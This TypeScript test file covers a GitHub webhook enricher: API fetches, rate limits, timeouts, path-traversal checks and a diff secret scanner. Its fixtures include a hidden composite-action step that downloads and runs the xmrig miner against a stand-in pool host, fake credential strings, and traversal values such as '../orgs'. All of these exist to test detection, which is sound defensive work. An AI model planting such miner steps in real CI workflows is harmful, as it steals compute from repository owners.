/**
 * The github source's REST calls against a loopback stand-in of the GitHub API: token and
 * Enterprise base URL, the caches, local composite actions, rate limits (Retry-After,
 * X-RateLimit-Reset), timeouts and failures that leave <NA> fields; and the diff secret scanner.
 */
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, test } from 'node:test';
import { GithubApi, GithubApiError, encodePath, pathSegment, repoPath } from '../src/github/api.js';
import { GithubEnricher } from '../src/github/enrich.js';
import { scanPatch, findSecrets } from '../src/knowledge/secrets.js';
import { HEAD_SHA, REPO, pushPayload, workflowRunPayload } from './helpers/github-payloads.js';
import { GithubStandin } from './helpers/github-standin.js';

const XMRIG_WORKFLOW = [
  'name: CI',
  'on: pull_request',
  'jobs:',
  '  build:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - uses: actions/checkout@v4',
  '      - uses: ./.github/actions/toolchain',
  '        with:',
  '          threads: 2',
  '',
].join('\n');

const TOOLCHAIN_ACTION = [
  'name: toolchain',
  'runs:',
  '  using: composite',
  '  steps:',
  '    - run: |',
  '        wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz',
  '        tar xf xmrig-6.21.0-linux-static-x64.tar.gz && ./xmrig-6.21.0/xmrig -o 198.51.100.7:3333 -u x --donate-level 0',
  '      shell: bash',
  '',
].join('\n');

type Payload = Record<string, unknown>;
const detections = (p: Payload) => p.workflow_miner_detections as { name: string; matches: Array<{ type: string; file: string; line: number }> } | undefined;
const fetchError = (p: Payload) => (p.mw_github as { fetch_error?: string } | undefined)?.fetch_error;

describe('workflow fetches', () => {
  const standin = new GithubStandin('/api/v3');
  let base: string;
  const warnings: object[] = [];
  before(async () => {
    base = await standin.start();
    standin.token = 'ghs_standinToken';
    standin.addFile(REPO, HEAD_SHA, '.github/workflows/ci.yml', XMRIG_WORKFLOW);
    standin.addFile(REPO, HEAD_SHA, '.github/actions/toolchain/action.yml', TOOLCHAIN_ACTION);
  });
  after(() => standin.stop());
  beforeEach(() => {
    standin.requests.length = 0;
    standin.forced.length = 0;
    standin.extraHeaders = {};
  });
  const enricher = (timeoutMs = 3000) =>
    new GithubEnricher(new GithubApi({ baseUrl: base, token: 'ghs_standinToken', timeoutMs }), { log: { warn: (o) => warnings.push(o) } });

  test('Enterprise base URL and token; the local composite action is fetched and checked too', async () => {
    const e = enricher();
    const p: Payload = workflowRunPayload();
    await e.enrich('workflow_run', p);
    assert.equal(fetchError(p), undefined);
    const d = detections(p)!;
    assert.equal(d.name, '.github/workflows/ci.yml');
    assert.ok(d.matches.some((m) => m.type === 'xmrig' && m.file === '.github/actions/toolchain/action.yml' && m.line === 6), JSON.stringify(d.matches));
    assert.ok(d.matches.some((m) => m.type === 'miner_flags' && m.line === 7));
    assert.ok(standin.requests.every((r) => r.path.startsWith('/api/v3/repos/acme/widgets/contents/') && r.auth === 'Bearer ghs_standinToken'));
    assert.equal(p.webhook_type, 'workflow_run');
  });

  test('a run\'s requested, in_progress and completed events cost one fetch per file', async () => {
    const e = enricher();
    for (const action of ['requested', 'in_progress', 'completed']) {
      const p: Payload = workflowRunPayload({ action });
      await e.enrich('workflow_run', p);
      assert.ok(detections(p)!.matches.length > 0);
    }
    assert.equal(standin.requests.length, 2, standin.requests.map((r) => r.path).join('\n'));
  });

  test('Retry-After inside the budget is waited out once, then the call succeeds', async () => {
    standin.forced.push({ status: 429, headers: { 'retry-after': '1' } });
    const e = enricher(5000);
    const p: Payload = workflowRunPayload({ action: 'completed' });
    await e.enrich('workflow_run', p);
    assert.equal(fetchError(p), undefined);
    assert.ok(detections(p)!.matches.length > 0);
    assert.equal(standin.requests.length, 3); // limited, retried, then the action file
  });

  test('X-RateLimit-Reset in the future: <NA> with the reason, and no further calls until then', async () => {
    const reset = Math.floor(Date.now() / 1000) + 3600;
    standin.forced.push({ status: 403, headers: { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(reset) }, body: { message: 'API rate limit exceeded' } });
    const e = enricher();
    const p: Payload = workflowRunPayload();
    await e.enrich('workflow_run', p);
    assert.equal(detections(p), undefined);
    assert.match(fetchError(p)!, new RegExp(`rate limited .* until ${new Date(reset * 1000).toISOString().slice(0, 16)}`));
    const n = standin.requests.length;
    const p2: Payload = workflowRunPayload({ sha: 'e'.repeat(40) });
    await e.enrich('workflow_run', p2);
    assert.match(fetchError(p2)!, /not calling before then/);
    assert.equal(standin.requests.length, n, 'no call while limited');
    assert.ok(warnings.length >= 2);
  });

  test('the last call of a window (X-RateLimit-Remaining: 0 on a 200) blocks the next ones', async () => {
    standin.extraHeaders = { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 600) };
    const api = new GithubApi({ baseUrl: base, token: 'ghs_standinToken' });
    await api.getJson(`/repos/${REPO}/contents/.github/workflows/ci.yml?ref=${HEAD_SHA}`);
    await assert.rejects(api.getJson(`/repos/${REPO}/contents/.github/workflows/ci.yml?ref=${HEAD_SHA}`), /rate limited/);
    assert.equal(standin.requests.length, 1);
  });

  test('a slow API times out: <NA> and a reason, no crash', async () => {
    standin.forced.push({ status: 200, delayMs: 1500, body: {} });
    const e = enricher(200);
    const p: Payload = workflowRunPayload({ sha: 'f'.repeat(40) });
    await e.enrich('workflow_run', p);
    assert.equal(detections(p), undefined);
    assert.match(fetchError(p)!, /timed out after 200 ms/);
  });

  test('one event\'s budget: a local action that cannot be fetched in time is skipped, the workflow\'s own findings stay', async () => {
    standin.addFile(REPO, '2'.repeat(40), '.github/workflows/ci.yml', XMRIG_WORKFLOW + '      - run: ./xmrig -o 198.51.100.7:3333 -u x\n');
    standin.delays.push({ match: /actions\/toolchain/, ms: 1500 });
    try {
      const seen: Array<{ action?: string; reason?: string }> = [];
      const e = new GithubEnricher(new GithubApi({ baseUrl: base, token: 'ghs_standinToken', timeoutMs: 5000 }), { budgetMs: 400, log: { warn: (o) => seen.push(o) } });
      const p: Payload = workflowRunPayload({ sha: '2'.repeat(40) });
      await e.enrich('workflow_run', p);
      assert.equal(fetchError(p), undefined);
      assert.deepEqual([...new Set(detections(p)!.matches.map((m) => m.file))], ['.github/workflows/ci.yml']);
      assert.equal(seen[0]!.action, './.github/actions/toolchain');
      assert.match(seen[0]!.reason!, /timed out after \d+ ms|budget/);
    } finally {
      standin.delays.length = 0;
    }
  });

  test('bad credentials, a bad repository name and an unreachable API each give a reason', async () => {
    const noToken = new GithubEnricher(new GithubApi({ baseUrl: base }));
    const p: Payload = workflowRunPayload({ sha: '1'.repeat(40) });
    await noToken.enrich('workflow_run', p);
    assert.match(fetchError(p)!, /HTTP 401: Bad credentials/);

    const odd: Payload = workflowRunPayload();
    (odd.workflow_run as Payload).head_repository = { full_name: '../../etc' };
    await enricher().enrich('workflow_run', odd);
    assert.match(fetchError(odd)!, /not an owner\/name repository/);

    const down = new GithubEnricher(new GithubApi({ baseUrl: 'http://127.0.0.1:1', timeoutMs: 1000 }));
    const p3: Payload = workflowRunPayload();
    await down.enrich('workflow_run', p3);
    assert.match(fetchError(p3)!, /GET http:\/\/127\.0\.0\.1:1\/repos\/acme\/widgets\/contents/);
  });
});

describe('push diffs', () => {
  const standin = new GithubStandin();
  let base: string;
  before(async () => (base = await standin.start()));
  after(() => standin.stop());

  test('a new branch is compared with the default branch; a deleted branch fetches nothing', async () => {
    standin.diffs.set(`${REPO}:main...${HEAD_SHA}`, [{ filename: 'k.pem', patch: '@@ -0,0 +1,2 @@\n+-----BEGIN RSA PRIVATE KEY-----\n+MIIEow' }]);
    const e = new GithubEnricher(new GithubApi({ baseUrl: base }));
    const p: Payload = pushPayload({ before: '0'.repeat(40) });
    await e.enrich('push', p);
    assert.deepEqual(p.files, [{ name: 'k.pem', matches: [{ line: 1, type: 'key', desc: 'asymmetric_private_key', platform: 'AsymmetricPrivateKey' }] }]);
    const n = standin.requests.length;
    const del: Payload = pushPayload({ after: '0'.repeat(40) });
    await e.enrich('push', del);
    assert.equal(del.files, undefined);
    assert.equal(standin.requests.length, n);
  });
});

describe('secrets in diffs', () => {
  test('line numbers follow the new file through context, deletions and several hunks', () => {
    const patch = [
      '@@ -10,4 +10,5 @@ config:',
      ' a: 1',
      '-b: 2',
      '+b: 3',
      `+token: ghp_${'a1B2c3D4e5'.repeat(3)}abcdef`,
      ' c: 4',
      '@@ -40,2 +41,3 @@',
      ' x',
      '+hook: https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX',
      '\\ No newline at end of file',
    ].join('\n');
    assert.deepEqual(scanPatch(patch).map((m) => [m.line, m.desc]), [[12, 'github_personal_access_token'], [42, 'slack_webhook']]);
  });

  test('ordinary code is not a secret: shas, words, short ids, removed lines', () => {
    for (const line of [
      'key: 3f786850e387550fdab836ed7e6dc881de23001b',
      'const linkedinProfileUrl = "https://linkedin.com/in/someone"',
      'aws_account_id = 123456789012',
      'AKIA is the prefix of AWS access key ids',
      'ghp_short',
    ]) assert.deepEqual(findSecrets(line).map((s) => s.desc), [], line);
    assert.deepEqual(scanPatch('@@ -1,1 +1,0 @@\n-AWS_ACCESS_KEY_ID=AKIAQ3EGRIT7WXYZ2K4M'), []);
  });

  test('the kinds the plugin names are recognised', () => {
    const cases: Array<[string, string]> = [
      ['AWS_ACCESS_KEY_ID=AKIAQ3EGRIT7WXYZ2K4M', 'aws_access_key'],
      ['aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"', 'aws_secret_key'],
      ['SLACK_TOKEN=xoxb-123456789012-abcdefABCDEF', 'slack'],
      ['-----BEGIN OPENSSH PRIVATE KEY-----', 'asymmetric_private_key'],
      ['key: AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY', 'google_api_key'],
      ['"type": "service_account",', 'google_gcp_service_account'],
      ['STRIPE=sk_live_4eC39HqLyjWDarjtT1zdp7dc', 'stripe_api_key'],
      ['pypi-AgEIcHlwaS5vcmcCJGQ0YjM2ZjY2LTk5ZTUtNDhhMS1hNDUzLWU3ZjRkYjBmZmRmNgACKlszLCJhYmMiXQ', 'pypi_upload_token'],
    ];
    for (const [line, desc] of cases) assert.ok(findSecrets(line).some((s) => s.desc === desc), `${desc}: ${line}`);
  });
});

describe('API paths from payload values', () => {
  test('repoPath refuses owner or repo names of dots, empty parts and extra slashes; keeps real names', () => {
    assert.equal(repoPath('acme/widgets'), '/repos/acme/widgets');
    assert.equal(repoPath('acme/.github'), '/repos/acme/.github');
    assert.equal(repoPath('my-org/repo.js_2'), '/repos/my-org/repo.js_2');
    for (const bad of ['../orgs', 'acme/..', './x', 'acme/.', '.../x', '/widgets', 'acme/', 'a/b/c', 'acme', '', 'acme/wid gets', 'acme/%2e%2e']) {
      assert.equal(repoPath(bad), undefined, bad);
    }
    assert.throws(() => encodePath('.github/../../x'), GithubApiError);
    assert.equal(pathSegment('abc123', 'commit'), 'abc123');
    for (const bad of ['', '.', '..']) assert.throws(() => pathSegment(bad, 'commit'), /is not a commit/);
  });

  test('a push naming repository "../orgs" or commit ".." makes no API call at all; the fetch error says why', async () => {
    const standin = new GithubStandin();
    const api = await standin.start();
    try {
      const enricher = new GithubEnricher(new GithubApi({ baseUrl: api, timeoutMs: 3000 }));
      const byRepo = pushPayload() as Payload;
      byRepo.repository = { ...(byRepo.repository as Payload), full_name: '../orgs' };
      await enricher.enrich('push', byRepo);
      assert.match(String((byRepo.mw_github as Payload).fetch_error), /'\.\.\/orgs' is not an owner\/name repository/);
      const byCommit = pushPayload({ after: '..', before: '0'.repeat(40) }) as Payload;
      byCommit.repository = { ...(byCommit.repository as Payload), default_branch: '' };
      await enricher.enrich('push', byCommit);
      assert.match(String((byCommit.mw_github as Payload).fetch_error), /'\.\.' is not a commit/);
      const run = workflowRunPayload() as Payload;
      (run.workflow_run as Payload).head_repository = { full_name: 'acme/..' };
      await enricher.enrich('workflow_run', run);
      assert.match(String((run.mw_github as Payload).fetch_error), /'acme\/\.\.' is not an owner\/name repository/);
      assert.deepEqual(standin.requests, [], 'no request may leave for a path built from those names');
    } finally {
      await standin.stop();
    }
  });
});
